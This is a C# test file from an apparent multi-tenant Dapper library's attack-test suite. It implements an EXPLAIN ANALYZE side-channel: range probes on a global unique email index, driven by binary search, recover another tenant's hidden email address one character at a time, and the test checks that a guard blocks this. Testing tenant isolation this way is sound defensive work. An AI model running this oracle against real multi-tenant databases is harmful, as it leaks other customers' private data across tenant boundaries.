using System.Globalization;

namespace DapperTenants.Tests.Reliability;

/// <summary>
/// EXPLAIN ANALYZE as an oracle through an index whose leading column is not the tenant (issue #12, break 5): on a global
/// unique index on e-mail addresses, "Rows Removed by Filter" counts the hidden rows inside a probed range, so range
/// probes spell out the smallest hidden address character by character. The table's indexes are its primary key and
/// that unique index (none leads on the tenant column, which the installer and the audit warn about), so the planner
/// probes the unique index once sequential scans are off.
/// </summary>
public partial class AttackTests
{
    /// <summary>The characters an address may hold, in byte order (the column is <c>collate "C"</c>).</summary>
    private const string AddressCharacters = "-.0123456789@_abcdefghijklmnopqrstuvwxyz";

    /// <summary>The oracle attack, recovering globex's e-mail address from the unique index.</summary>
    public static IEnumerable<AttackCase> OracleCases =>
    [
        new("EXPLAIN_ANALYZE_index_probes_on_a_global_unique_index", Outcome.Guard, "explain (analyze, costs off, timing off, summary off) select id from accounts where email >= @lo and email < @hi")
        {
            Undefended = true,
            Kind = "EXPLAIN ANALYZE",
            WithGuardOff = Outcome.OnlyTheGuardStops,
            Shows = ["grace@globex.test"],
            Script = RecoverAddressAsync,
        },
    ];

    /// <summary>Binary search per character over range probes; returns the smallest address acme cannot see.</summary>
    private static async Task<List<string>> RecoverAddressAsync(AttackRun run)
    {
        var probes = 0;
        async Task<int> HiddenAsync(string condition)
        {
            probes++;
            var plan = string.Join('\n', await run.ReadAsync(run.Acme,
                $"begin; set local enable_seqscan = off; explain (analyze, costs off, timing off, summary off) select id from accounts where {condition}; commit"));
            var removed = RowsRemoved().Match(plan);
            return removed.Success ? int.Parse(removed.Groups[1].Value, CultureInfo.InvariantCulture) : 0;
        }

        var prefix = string.Empty;
        while (prefix.Length < 64 && await HiddenAsync($"email = '{prefix}'") == 0)
        {
            // The smallest i such that some hidden address continues the prefix with a character up to AddressCharacters[i].
            int low = 0, high = AddressCharacters.Length - 1;
            var upper = (int i) => i + 1 < AddressCharacters.Length ? prefix + AddressCharacters[i + 1] : prefix + '\x7f';
            if (await HiddenAsync($"email >= '{prefix}{AddressCharacters[0]}' and email < '{upper(high)}'") == 0)
            {
                break;
            }

            while (low < high)
            {
                var middle = (low + high) / 2;
                if (await HiddenAsync($"email >= '{prefix}{AddressCharacters[0]}' and email < '{upper(middle)}'") > 0)
                {
                    high = middle;
                }
                else
                {
                    low = middle + 1;
                }
            }

            prefix += AddressCharacters[low];
        }

        TestContext.Out.WriteLine($"EXPLAIN ANALYZE oracle: '{prefix}' in {probes} statements");
        return [prefix];
    }
}
